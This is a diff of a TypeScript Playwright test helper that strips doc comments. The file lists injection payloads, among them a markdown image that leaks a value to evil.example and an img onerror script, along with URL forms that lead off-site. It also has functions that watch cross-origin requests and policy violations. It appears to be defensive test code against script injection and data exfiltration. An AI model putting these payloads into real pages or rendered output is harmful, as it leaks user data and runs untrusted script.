@@ -1,6 +1,5 @@
 import type { BrowserContext, Page } from 'playwright-core'
 
-/** What a page might load, run or link to, wherever it took a text for more than a text. */
 export const attacks = [
   '![x](https://evil.example/p.png?spent=12.34)',
   '<img src=https://evil.example/i.png onerror="window.hit=1">',
@@ -14,7 +13,6 @@ export const attacks = [
 
 export const allAttacks = attacks.join('\n')
 
-/** Addresses that lead out of the app, in the ways that browsers understand. */
 export const wayOut = [
   'https://evil.example/',
   '//evil.example/',
@@ -32,14 +30,11 @@ export const wayOut = [
 ]
 
 export interface Watch {
-  /** Addresses of other origins that were asked, or would have been but for the policy of the page. */
   strangers: string[]
-  /** What the policy of the page had to hold back. */
   violations: string[]
   dialogs: string[]
 }
 
-/** Watches what a window asks for, from now on. */
 export async function watch(context: BrowserContext, page: Page, ...origins: string[]): Promise<Watch> {
   const seen: Watch = { strangers: [], violations: [], dialogs: [] }
   context.on('request', (request) => {
@@ -61,7 +56,6 @@ export async function watch(context: BrowserContext, page: Page, ...origins: str
   return seen
 }
 
-/** What is on a page that could lead or load from elsewhere, or did run. */
 export function foreignIn(page: Page): Promise<string[]> {
   return page.evaluate(() => {
     const found: string[] = []
